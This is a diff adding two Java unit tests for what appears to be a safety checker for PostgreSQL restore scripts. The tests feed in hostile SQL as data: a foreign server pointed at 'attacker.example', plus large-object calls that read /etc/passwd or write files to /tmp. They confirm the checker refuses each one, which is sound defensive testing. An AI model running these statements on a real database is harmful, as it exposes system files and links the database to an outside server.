@@ -132,6 +132,43 @@ class ScriptPolicyTest {
   }
 
   @Test
+  void foreignServersMappingsAndTablesPassOnlyTheWritersOwnCheck() throws IOException {
+    String[] statements = {"CREATE FOREIGN DATA WRAPPER \"w\" VALIDATOR postgresql_fdw_validator;",
+        "CREATE SERVER \"s\" FOREIGN DATA WRAPPER \"w\" OPTIONS (host 'attacker.example');",
+        "CREATE USER MAPPING FOR PUBLIC SERVER \"s\" OPTIONS (password 'x');",
+        "CREATE FOREIGN TABLE \"public\".\"users\" (id int)\nSERVER \"s\";",
+        "COMMENT ON SERVER \"s\" IS 'x';", "GRANT USAGE ON FOREIGN SERVER \"s\" TO PUBLIC;",
+        "GRANT USAGE ON FOREIGN DATA WRAPPER \"w\" TO PUBLIC;"};
+    String[] named = {"CREATE FOREIGN DATA WRAPPER", "CREATE SERVER", "CREATE USER MAPPING",
+        "CREATE FOREIGN TABLE", "COMMENT SERVER", "GRANT SERVER", "GRANT FOREIGN DATA WRAPPER"};
+    for (int i = 0; i < statements.length; i++) {
+      String text = "BEGIN;\n" + statements[i] + "\nCOMMIT;\n";
+      for (ScriptPolicy.Kind kind : ScriptPolicy.Kind.values()) {
+        String body = kind == ScriptPolicy.Kind.PG_DUMP ? statements[i] + "\n" : text;
+        String m = refused(kind, body);
+        assertTrue(m.contains(named[i] + " makes the database connect to another server")
+            && m.contains("--trust-file"), m);
+      }
+      read(text, new ScriptPolicy(ScriptPolicy.Kind.OURS, "f", true));
+    }
+  }
+
+  @Test
+  void largeObjectsOnlyAsOurWriterCreatesAndFillsThem() throws IOException {
+    allowed(ScriptPolicy.Kind.OURS, "BEGIN;\nSELECT pg_catalog.lo_create('16400');\n"
+        + "SELECT pg_catalog.lo_put('16400', 262144, '\\x00ff7f');\nCOMMENT ON LARGE OBJECT 16400 IS 'x';\n"
+        + "GRANT SELECT ON LARGE OBJECT 16400 TO PUBLIC;\nCOMMIT;\n");
+    for (String evil : new String[] {"SELECT pg_catalog.lo_import('/etc/passwd');",
+        "SELECT pg_catalog.lo_export('16400', '/tmp/x');", "SELECT lo_create('16400');",
+        "SELECT pg_catalog.lo_put('16400', 0, pg_catalog.pg_read_binary_file('/etc/passwd'));",
+        "SELECT pg_catalog.lo_put('16400', 0, '\\x0');", "SELECT pg_catalog.lo_create('1'), 1;",
+        "SELECT pg_catalog.lo_put('16400', 0, '\\x00'); SELECT pg_catalog.lo_unlink('1');"}) {
+      assertTrue(refused(ScriptPolicy.Kind.OURS, "BEGIN;\n" + evil + "\nCOMMIT;\n")
+          .contains("lo_create, lo_put"), evil);
+    }
+  }
+
+  @Test
   void aCopyLineMayNameTablesWithUnicodeEscapes() throws IOException {
     allowed(ScriptPolicy.Kind.OURS, "BEGIN;\nCOPY \"public\".U&\"line\\000abreak\" (U&\"a\\000ab\") FROM stdin;\n1\n\\.\nCOMMIT;\n");
   }
